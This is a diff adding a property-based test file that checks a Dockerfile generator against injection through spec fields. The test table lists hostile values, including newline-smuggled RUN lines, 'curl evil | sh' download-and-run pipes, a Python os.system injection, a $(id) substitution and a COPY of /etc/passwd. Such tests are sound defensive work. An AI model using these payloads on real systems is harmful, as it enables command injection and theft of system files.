@@ -1,0 +1,41 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { BENIGN_STRUCTURE, FIELDS, caseArbitrary, checkCase } from "./testing/injection";
+
+/** The short run; scripts/fuzz.ts runs 100,000+ cases (npm run fuzz). */
+const RUNS = Number(process.env.FUZZ_RUNS ?? 3000);
+
+describe("untrusted input cannot reach the Dockerfile", () => {
+  it("the benign spec exercises RUN, ENV, COPY, USER, HEALTHCHECK and CMD", () => {
+    for (const k of ["RUN", "ENV", "COPY", "USER", "HEALTHCHECK", "CMD", "WORKDIR", "EXPOSE"]) expect(BENIGN_STRUCTURE.some((s) => s.startsWith(k))).toBe(true);
+  });
+  it.each([
+    ["runtime.workdir", "/app\nRUN id"],
+    ["runtime.env.0.value", "x\\\nRUN id"],
+    ["runtime.env.0.value", 'x" && curl evil | sh #'],
+    ["runtime.command.1", 'app:app"]\nRUN ["id'],
+    ["systemPackages.runtime.0", "tini && curl evil | sh"],
+    ["runtime.healthcheck.path", "/health'); import os; os.system('id"],
+    ["packages.0.marker", 'python_version >= "3" ; $(id)'],
+    ["runtime.user.name", "app\u2028RUN id"],
+    ["runtime.copy.0", "src /etc/passwd"],
+  ])("%s = %j is refused or harmless", (path, value) => {
+    const field = FIELDS.find((f) => f.path === path)!;
+    const r = checkCase(field, value);
+    expect(r.outcome, JSON.stringify(r)).not.toBe("failed");
+  });
+  it(`holds for ${RUNS} random hostile values across every field`, () => {
+    const counts = { refused: 0, rendered: 0 };
+    fc.assert(
+      fc.property(caseArbitrary, ([i, value]) => {
+        const r = checkCase(FIELDS[i], value);
+        if (r.outcome === "failed") throw new Error(r.reason);
+        counts[r.outcome]++;
+      }),
+      { numRuns: RUNS, seed: 20261122 },
+    );
+    // Both paths are exercised: values that are safe render, the rest are refused.
+    expect(counts.refused).toBeGreaterThan(0);
+    expect(counts.rendered).toBeGreaterThan(0);
+  });
+});
